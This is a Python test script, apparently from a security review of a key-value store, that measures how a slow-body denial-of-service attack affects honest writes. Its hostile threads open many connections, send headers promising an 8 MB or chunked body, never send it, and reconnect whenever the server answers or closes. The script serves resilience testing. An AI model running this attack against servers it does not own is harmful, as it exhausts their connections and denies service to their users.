"""N7 attack (the second security review's bodyhog.py, adapted to measure a series of writes).

N sockets send `POST /nothing-here` with `Content-Length: 8388608` (MODE `cl`) or
`Transfer-Encoding: chunked` (MODE `chunked`), or a write `PUT /v1/kv/hog` with no sequencer
and `Content-Length: 8388608` (MODE `put`), and never send the body. Meanwhile an honest
client runs `palisade store put` (its sequencer from the environment, so run this under
`palisade lock`) one after another for DURATION seconds. Changes from the review's script:
the `Host` header names the store's address (the store now answers any other with 421, N10,
which would hide what this measures); a hostile socket the store answers or closes is opened
again (at most every 0.1 s each), so the attack lasts the whole run; the honest writes are
many, and the end prints the first one's time and the p50, p99 and max of all, with the
failures. N=0 gives the baseline.

    palisade lock jobs/x -- python3 bodyhog.py HOST PORT N MODE PALISADE_BIN DURATION
"""
import os, select, socket, subprocess, sys, threading, time

host, port, n, mode, palisade, duration = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], sys.argv[5], float(sys.argv[6])
target = b"PUT /v1/kv/hog" if mode == "put" else b"POST /nothing-here"
header = b"Transfer-Encoding: chunked" if mode == "chunked" else b"Content-Length: 8388608"
request = target + f" HTTP/1.1\r\nHost: {host}:{port}\r\n".encode() + header + b"\r\n\r\n"
stop = threading.Event()
answers = {}   # first line of what the store answered a hostile request -> count


def hostile():
    socks = {}
    for i in range(n):
        s = socket.create_connection((host, port)); s.sendall(request); socks[s] = time.time()
    while not stop.is_set():
        if not socks:
            time.sleep(0.1); continue
        ready, _, _ = select.select(list(socks), [], [], 0.1)
        for s in ready:
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            line = data.split(b"\r\n", 1)[0].decode(errors="replace") if data else "closed"
            answers[line] = answers.get(line, 0) + 1
            opened = socks.pop(s); s.close()
            time.sleep(max(0.0, 0.1 - (time.time() - opened)))
            try:
                t = socket.create_connection((host, port)); t.sendall(request); socks[t] = time.time()
            except OSError:
                pass
    for s in socks:
        s.close()


attacker = threading.Thread(target=hostile); attacker.start()
time.sleep(0.5)
print(f"{n} hostile connections ({mode}) sent headers, no body; now honest fenced writes for {duration:.0f}s:", flush=True)
env = dict(os.environ, PALISADE_STORE=f"http://{host}:{port}")
times, failures = [], []
t0 = time.time()
i = 0
while time.time() - t0 < duration:
    t = time.time()
    r = subprocess.run([palisade, "store", "put", f"k{i}", f"v{i}"], capture_output=True, text=True, env=env)
    times.append(time.time() - t)
    if r.returncode != 0:
        failures.append(r.stderr.strip()[:200])
    i += 1
stop.set(); attacker.join()
s = sorted(times)
q = lambda p: s[min(len(s) - 1, int(p * len(s)))]
print(f"first honest write {times[0]*1000:.0f} ms; {len(times)} writes in {time.time()-t0:.1f}s: "
      f"p50 {q(0.5)*1000:.0f} ms, p99 {q(0.99)*1000:.0f} ms, max {s[-1]*1000:.0f} ms; {len(failures)} failed"
      + (f" (first: {failures[0]})" if failures else ""), flush=True)
print(f"the store answered the hostile requests: {answers}", flush=True)
